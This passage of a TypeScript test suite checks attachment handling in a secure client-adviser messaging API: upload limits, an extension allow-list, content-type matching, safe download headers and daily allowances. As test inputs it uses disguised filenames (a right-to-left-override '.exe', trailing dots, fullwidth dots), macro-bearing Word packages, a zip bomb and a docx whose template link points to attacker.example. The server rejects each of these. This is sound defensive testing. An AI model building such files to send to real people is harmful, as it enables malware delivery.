    expect(byAdviser.body.api_message).toBe("Permission Error: This feature is only available to clients");

    changing.platform.db
      .update(featureToggles)
      .set({ enabled: true })
      .where(eq(featureToggles.name, "one_way_messaging"))
      .run();
    try {
      const oneWay = await compose(changing.platform, client);
      expect(oneWay.status).toBe(403);
      expect(oneWay.body.api_message).toBe("Permission Error: Messages are one-way");
    } finally {
      changing.platform.db
        .update(featureToggles)
        .set({ enabled: false })
        .where(eq(featureToggles.name, "one_way_messaging"))
        .run();
    }
  });

  it("checks the subject, body and accounts", async () => {
    expect((await compose(changing.platform, client, "")).status).toBe(400);
    expect((await compose(changing.platform, client, "   ")).status).toBe(400);
    const long = await compose(changing.platform, client, "x".repeat(256));
    expect(long.status).toBe(400);
    expect(long.body.api_message).toContain("Subject must be under 256 characters.");
    expect((await compose(changing.platform, client, "x".repeat(255))).status).toBe(201);
    const bigBody = await changing.platform.call("/resourceful/docnote-v2", {
      method: "POST",
      token: client,
      body: { subject: "Big", body: "x".repeat(100_001) },
    });
    expect(bigBody.status).toBe(400);
    const foreignAccount = await changing.platform.call("/resourceful/docnote-v2", {
      method: "POST",
      token: client,
      body: { subject: "Acc", body: "", accounts: [999999] },
    });
    expect(foreignAccount.status).toBe(403);
  });

  it("uploads up to 5 attachments to the client's own message, and downloads the same bytes", async () => {
    const { body } = await compose(changing.platform, client, "Documents you asked for");
    const bytes = new Uint8Array(3000).map((_, i) => (i * 7) % 256);
    bytes.set(new TextEncoder().encode("%PDF-1.4\n"));
    const first = await upload(changing.platform, client, body.id, "Relevé März 2025.pdf", bytes, "application/pdf");
    expect(first.status).toBe(201);
    expect(first.body).toMatchObject({ filename: "Relevé März 2025.pdf", size: 3000 });
    const others = { "b.png": SAMPLES.png(), "c.txt": SAMPLES.txt(), "d.docx": wordDocument(), "e.xlsx": workbook() };
    for (const [name, content] of Object.entries(others))
      expect(
        (await upload(changing.platform, client, body.id, name, content as Uint8Array<ArrayBuffer>)).status,
        name,
      ).toBe(201);
    const sixth = await upload(changing.platform, client, body.id, "f.pdf", SAMPLES.pdf() as Uint8Array<ArrayBuffer>);
    expect(sixth.status).toBe(400);
    expect(sixth.body.api_message).toBe("You can upload a maximum of 5 attachments.");

    const attachments = (
      await changing.platform.call<Attachment[]>(`/resourceful/docnote-v2/${body.id}/attachment-v4`, { token: client })
    ).body;
    expect(attachments.map((a) => a.filename)).toEqual(["Relevé März 2025.pdf", "b.png", "c.txt", "d.docx", "e.xlsx"]);
    // the type comes from the allow-list by the extension, never from the part
    expect(attachments.map((a) => a.content_type)).toEqual([
      "application/pdf",
      "image/png",
      "text/plain; charset=utf-8",
      "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
      "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    ]);
    const response = await fetch(
      `${changing.platform.baseUrl}/resourceful/docnote/files/${body.id}/${first.body.docpartid}/${encodeURIComponent("Relevé März 2025.pdf")}`,
      {
        headers: { ...CALLER, Cookie: `XPLANID=${client}` },
      },
    );
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("application/pdf");
    expect(response.headers.get("content-length")).toBe("3000");
    expect(response.headers.get("content-disposition")).toBe(
      `attachment; filename="Relev_ M_rz 2025.pdf"; filename*=UTF-8''Relev%C3%A9%20M%C3%A4rz%202025.pdf`,
    );
    expect(Buffer.from(await response.arrayBuffer()).equals(Buffer.from(bytes))).toBe(true);
    expect(
      (await changing.platform.call<Doc>(`/resourceful/docnote-v2/${body.id}`, { token: client })).body
        .attachment_count,
    ).toBe(5);
  });

  it("refuses files too large, of excluded types (any case), empty, and messages not the client's", async () => {
    const { body } = await compose(changing.platform, client, "More documents");
    const tooBig = await upload(changing.platform, client, body.id, "scan.pdf", new Uint8Array(10_000_001));
    expect(tooBig.status).toBe(400);
    expect(tooBig.body.api_message).toBe("File is too large, please remove.");
    const limit = new Uint8Array(10_000_000);
    limit.set(SAMPLES.pdf());
    expect((await upload(changing.platform, client, body.id, "scan.pdf", limit)).status).toBe(201);
    for (const name of ["setup.exe", "ARCHIVE.ZIP", "macro.vbs", "run.Js"]) {
      const refused = await upload(changing.platform, client, body.id, name, "data");
      expect(refused.status, name).toBe(400);
      expect(refused.body.api_message, name).toBe("File type not allowed, please remove.");
    }
    expect(
      (await upload(changing.platform, client, body.id, "big.exe", new Uint8Array(10_000_001))).body.api_message,
    ).toBe("File type not allowed and file is too large, please remove.");
    expect((await upload(changing.platform, client, body.id, "empty.txt", "")).status).toBe(400);
    // an adviser's message, and the adviser uploading
    const seeded = (await list(changing.platform, client, "docsubtype_exclude=Client%20Initiated")).body[0]!;
    expect((await upload(changing.platform, client, seeded.id, "a.pdf", "data")).status).toBe(403);
    await openClient(changing.platform, counsel, ELLIE);
    expect((await upload(changing.platform, counsel, body.id, "a.pdf", "data")).status).toBe(403);
    // a JSON body is not an upload: refused for its type (decision 182)
    const json = await changing.platform.call(`/resourceful/docnote-v2/${body.id}/attachment-v3`, {
      method: "POST",
      token: client,
      body: { content: "x" },
    });
    expect(json.status).toBe(415);
  });

  it("accepts only the allow-list's types, on a normalised name (issue 24)", async () => {
    const { body } = await compose(changing.platform, client, "Hostile names");
    const html = SAMPLES.html() as Uint8Array<ArrayBuffer>;
    for (const name of [
      "evil.exe.",
      "evil.exe . ",
      "page.html",
      "image.svg",
      "app.hta",
      "screen.scr",
      "script.ps1",
      "notes.json",
      "README",
      "evil．ｅｘｅ",
    ]) {
      const refused = await upload(changing.platform, client, body.id, name, html, "text/plain");
      expect(refused.status, name).toBe(400);
      expect(refused.body.api_message, name).toBe("File type not allowed, please remove.");
    }
    // a right-to-left override does not make 'fdp.exe' a PDF
    expect(
      (
        await upload(
          changing.platform,
          client,
          body.id,
          "invoice\u202Efdp.exe",
          SAMPLES.exe() as Uint8Array<ArrayBuffer>,
        )
      ).body.api_message,
    ).toBe("File type not allowed, please remove.");
    expect(
      (await changing.platform.call<Doc>(`/resourceful/docnote-v2/${body.id}`, { token: client })).body
        .attachment_count,
    ).toBe(0);
  });

  it("refuses content that is not what the name says (issue 24)", async () => {
    const { body } = await compose(changing.platform, client, "Disguised files");
    const cases: Array<[string, Uint8Array]> = [
      ["invoice.pdf", SAMPLES.exe()],
      ["photo.jpg", SAMPLES.png()],
      ["letter.docx", SAMPLES.zip()],
      ["figures.csv", SAMPLES.pdf()],
      ["scan.pdf", new Uint8Array(100)],
    ];
    for (const [name, content] of cases) {
      const refused = await upload(
        changing.platform,
        client,
        body.id,
        name,
        content as Uint8Array<ArrayBuffer>,
        "application/pdf",
      );
      expect(refused.status, name).toBe(400);
      expect(refused.body.api_message, name).toBe("File content does not match its type, please remove.");
    }
  });

  it("refuses Office packages with macros, links to content elsewhere or a zip bomb, and .doc and .xls (issue 39)", async () => {
    const { body } = await compose(changing.platform, client, "Office files");
    const attachedTemplate = craftedWordDocument({
      relationships: `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"/>`,
    });
    const cases: Array<[string, Uint8Array, string]> = [
      ["letter.docx", wordDocument(true), "File contains macros or other active content, please remove."],
      [
        "letter.docx",
        craftedWordDocument({ parts: { "word/vbaProject.bin": new Uint8Array(16) } }),
        "File contains macros or other active content, please remove.",
      ],
      ["form.docx", attachedTemplate, "File links to content stored elsewhere, please remove."],
      ["figures.xlsx", zipBomb(2048), "File is too large when unpacked, please remove."],
      ["old letter.doc", SAMPLES.compound(), "File type not allowed, please remove."],
      ["old sheet.xls", SAMPLES.compound(), "File type not allowed, please remove."],
    ];
    for (const [name, content, message] of cases) {
      const refused = await upload(changing.platform, client, body.id, name, content as Uint8Array<ArrayBuffer>);
      expect(refused.status, name).toBe(400);
      expect(refused.body.api_message, name).toBe(message);
    }
    const plain = craftedWordDocument() as Uint8Array<ArrayBuffer>;
    expect((await upload(changing.platform, client, body.id, "letter.docx", plain)).status).toBe(201);
  });

  it("stores a file named with '=' and trailing dots under its normalised name, and serves it safely (issue 24)", async () => {
    const { body } = await compose(changing.platform, client, "Statements");
    const stored = await upload(
      changing.platform,
      client,
      body.id,
      "statement=2026.pdf",
      SAMPLES.pdf() as Uint8Array<ArrayBuffer>,
      "text/html",
    );
    expect(stored.status).toBe(201);
    expect(stored.body.filename).toBe("statement=2026.pdf");
    const dotted = await upload(
      changing.platform,
      client,
      body.id,
      "notes.txt. . ",
      SAMPLES.txt() as Uint8Array<ArrayBuffer>,
      "text/html",
    );
    expect(dotted.body.filename).toBe("notes.txt");
    const file = await fetch(
      `${changing.platform.baseUrl}/resourceful/docnote/files/${body.id}/${stored.body.docpartid}/${encodeURIComponent("statement=2026.pdf")}`,
      {
        headers: { ...CALLER, Cookie: `XPLANID=${client}` },
      },
    );
    expect(file.status).toBe(200);
    // the allow-list's type, never the uploader's text/html
    expect(file.headers.get("content-type")).toBe("application/pdf");
    expect(file.headers.get("content-disposition")).toBe(
      `attachment; filename="statement=2026.pdf"; filename*=UTF-8''statement%3D2026.pdf`,
    );
    expect(file.headers.get("x-content-type-options")).toBe("nosniff");
    expect(file.headers.get("content-security-policy")).toBe("sandbox");
    expect(Buffer.from(await file.arrayBuffer()).equals(Buffer.from(SAMPLES.pdf()))).toBe(true);
  });

  it("takes a TIFF and a saved e-mail whose content is what they say, and serves the e-mail to be saved only (decision 205)", async () => {
    const { body } = await compose(changing.platform, client, "Scans and e-mails");
    const refused: Array<[string, Uint8Array]> = [
      ["scan.tif", SAMPLES.png()],
      ["scan.tiff", SAMPLES.txt()],
      ["letter.eml", SAMPLES.txt()],
      ["letter.eml", SAMPLES.html()],
    ];
    for (const [name, content] of refused) {
      const answer = await upload(changing.platform, client, body.id, name, content as Uint8Array<ArrayBuffer>);
      expect(answer.status, name).toBe(400);
      expect(answer.body.api_message, name).toBe("File content does not match its type, please remove.");
    }
    const tiff = await upload(
      changing.platform,
      client,
      body.id,
      "scan.TIFF",
      SAMPLES.tiff() as Uint8Array<ArrayBuffer>,
    );
    expect(tiff.status).toBe(201);
    const eml = await upload(
      changing.platform,
      client,
      body.id,
      "letter.eml",
      SAMPLES.eml() as Uint8Array<ArrayBuffer>,
      "text/html",
    );
    expect(eml.status).toBe(201);
    const served = async (docpartid: number, name: string) =>
      fetch(
        `${changing.platform.baseUrl}/resourceful/docnote/files/${body.id}/${docpartid}/${encodeURIComponent(name)}`,
        {
          headers: { ...CALLER, Cookie: `XPLANID=${client}` },
        },
      );
    const image = await served(tiff.body.docpartid, "scan.TIFF");
    expect(image.headers.get("content-type")).toBe("image/tiff");
    const message = await served(eml.body.docpartid, "letter.eml");
    expect(message.status).toBe(200);
    // never the uploader's text/html, never shown in place: saved, not sniffed, sandboxed
    expect(message.headers.get("content-type")).toBe("message/rfc822");
    expect(message.headers.get("content-disposition")).toMatch(/^attachment; filename="letter\.eml"/);
    expect(message.headers.get("x-content-type-options")).toBe("nosniff");
    expect(message.headers.get("content-security-policy")).toBe("sandbox");
    expect(Buffer.from(await message.arrayBuffer()).equals(Buffer.from(SAMPLES.eml()))).toBe(true);
  });

  it("serves a seeded file of a type outside the allow-list as bytes to save, not to open", async () => {
    const pension = (await list(changing.platform, client, "subject=Documents%20for%20your%20pension%20transfer"))
      .body[0]!;
    const one = await changing.platform.call<DocWithAttachments>(`/resourceful/docnote-v2/${pension.id}`, {
      token: client,
    });
    const docm = one.body.attachments.find((a) => a.filename.endsWith(".docm"))!;
    const file = await fetch(
      `${changing.platform.baseUrl}/resourceful/docnote/files/${pension.id}/${docm.docpartid}/${encodeURIComponent(docm.filename)}`,
      {
        headers: { ...CALLER, Cookie: `XPLANID=${client}` },
      },
    );
    expect(file.headers.get("content-type")).toBe("application/octet-stream");
    expect(file.headers.get("content-disposition")).toMatch(/^attachment;/);
    expect(file.headers.get("content-security-policy")).toBe("sandbox");
  });

  it("refuses a multipart body over the limit before reading it", async () => {
    const { body } = await compose(changing.platform, client, "Huge");
    const url = new URL(`${changing.platform.baseUrl}/resourceful/docnote-v2/${body.id}/attachment-v3`);
    const status = await new Promise<number>((resolve, reject) => {
      const req = httpRequest(
        {
          host: url.hostname,
          port: url.port,
          path: url.pathname,
          method: "POST",
          headers: {
            "Content-Type": "multipart/form-data; boundary=x",
            "Content-Length": String(12 * 1024 * 1024),
            ...CALLER,
            Cookie: `XPLANID=${client}`,
          },
        },
        (res) => {
          res.resume();
          resolve(res.statusCode ?? 0);
        },
      );
      req.on("error", reject);
      req.write("--x\r\n");
    });
    expect(status).toBe(413);
  });

  it("answers the notification template and puts the notification in the adviser's outbox", async () => {
    const template = await changing.platform.call<{ id: number; name: string; subject: string; body: string }>(
      "/resourceful/email/template/1",
      { token: client },
    );
    expect(template.body).toMatchObject({ id: 1, name: "New secure message" });
    expect((await changing.platform.call("/resourceful/email/template/999", { token: client })).status).toBe(404);
    const { body } = await compose(changing.platform, client, "Please call me");
    const sent = await changing.platform.call("/resourceful/email/email?_method=send", {
      method: "POST",
      token: client,
      body: { template_id: 1, subject: "Please call me", document_id: body.id },
    });
    expect(sent.status).toBe(204);
    const [mail] = await changing.platform.outbox("sarah.whitfield@northbridgewealth.example");
    expect(mail).toMatchObject({
      channel: "email",
      to: "sarah.whitfield@northbridgewealth.example",
      body: "You have a new secure message from Ellie Hartley: Please call me",
    });
    expect(
      (
        await changing.platform.call("/resourceful/email/email?_method=send", {
          method: "POST",
          token: client,
          body: { template_id: 999, subject: "x" },
        })
      ).status,
    ).toBe(404);
    // a client without an adviser
    const priyaEntityId = changing.platform.db
      .select({ e: users.entityId })
      .from(users)
      .where(eq(users.username, "demo.messages"))
      .get()!.e;
    changing.platform.db.run(sql`delete from adviser_clients where client_entity_id = ${priyaEntityId}`);
    const priya = await changing.platform.session("demo.messages");
    const none = await changing.platform.call("/resourceful/email/email?_method=send", {
      method: "POST",
      token: priya,
      body: { template_id: 1, subject: "Hello" },
    });
    expect(none.status).toBe(422);
    expect(none.body.api_message).toBe("No adviser to notify");
  });
});

describe("the attachments a client may store in 24 hours (ASVS V12.1.3, issue 39)", () => {
  const limited = withPlatform({ attachmentAllowance: { files: 3, bytes: 1_000 } });
  const pdfOf = (bytes: number) => {
    const head = "%PDF-1.4\n";
    return new Uint8Array(Buffer.from(head + " ".repeat(bytes - head.length))) as Uint8Array<ArrayBuffer>;
  };
  type Allowance = { files_per_day: number; bytes_per_day: number; files_left: number; bytes_left: number };

  it("answers what is left, refuses a file past it with 429, and counts again after 24 hours", async () => {
    const p = limited.platform;
    const client = await p.session("demo.client");
    const allowance = () => p.call<Allowance>("/resourceful/docnote-v2/attachment-allowance", { token: client });
    expect((await allowance()).body).toEqual({
      files_per_day: 3,
      bytes_per_day: 1_000,
      files_left: 3,
      bytes_left: 1_000,
    });
    const first = (await compose(p, client, "First")).body.id;
    expect((await upload(p, client, first, "a.pdf", pdfOf(400))).status).toBe(201);
    expect((await upload(p, client, first, "b.pdf", pdfOf(400))).status).toBe(201);
    expect((await allowance()).body).toMatchObject({ files_left: 1, bytes_left: 200 });
    // the bytes: 400 more would pass 1,000, on another message too
    const second = (await compose(p, client, "Second")).body.id;
    const tooMuch = await upload(p, client, second, "c.pdf", pdfOf(400));
    expect(tooMuch.status).toBe(429);
    expect(tooMuch.body.api_message).toBe(
      "Attachment limit reached: no more files can be stored for you in the next 24 hours.",
    );
    expect((await upload(p, client, second, "c.pdf", pdfOf(200))).status).toBe(201);
    // the files: a fourth is refused whatever its size
    expect((await upload(p, client, second, "d.pdf", pdfOf(20))).status).toBe(429);
    expect((await allowance()).body).toMatchObject({ files_left: 0, bytes_left: 0 });
    // another client has an allowance of their own
    const partner = await p.session("demo.partner");
    const theirs = await p.call<Allowance>("/resourceful/docnote-v2/attachment-allowance", { token: partner });
    expect(theirs.body).toMatchObject({ files_left: 3, bytes_left: 1_000 });
    // 24 hours later the files of the day before no longer count
    p.clock.advance(24 * 60 * 60 * 1000 + 1);
    const later = await p.session("demo.client");
    const now = await p.call<Allowance>("/resourceful/docnote-v2/attachment-allowance", { token: later });
    expect(now.body).toMatchObject({ files_left: 3, bytes_left: 1_000 });
    expect((await upload(p, later, second, "d.pdf", pdfOf(20))).status).toBe(201);
  });

  it("is 50 files and 100 MB unless the environment says otherwise, and refuses a setting below one file", () => {
    expect(attachmentAllowance(readEnv({ NODE_ENV: "development" }))).toEqual({ files: 50, bytes: 100_000_000 });
    const set = readEnv({
      NODE_ENV: "development",
      PLATFORM_ATTACHMENTS_PER_DAY: "20",
      PLATFORM_ATTACHMENT_BYTES_PER_DAY: "40000000",
    });
    expect(attachmentAllowance(set)).toEqual({ files: 20, bytes: 40_000_000 });
    expect(() => readEnv({ NODE_ENV: "development", PLATFORM_ATTACHMENTS_PER_DAY: "0" })).toThrow(
      /PLATFORM_ATTACHMENTS_PER_DAY/,
    );
    expect(() => readEnv({ NODE_ENV: "development", PLATFORM_ATTACHMENT_BYTES_PER_DAY: "9999999" })).toThrow(
      /PLATFORM_ATTACHMENT_BYTES_PER_DAY/,
    );
  });

  it("is a client's own: an adviser is refused", async () => {
    const p = limited.platform;
    const counsel = await p.session("demo.adviser", "adviser");
    expect((await p.call("/resourceful/docnote-v2/attachment-allowance", { token: counsel })).status).toBe(403);
    expect((await p.call("/resourceful/docnote-v2/attachment-allowance", {})).status).toBe(401);
  });
});
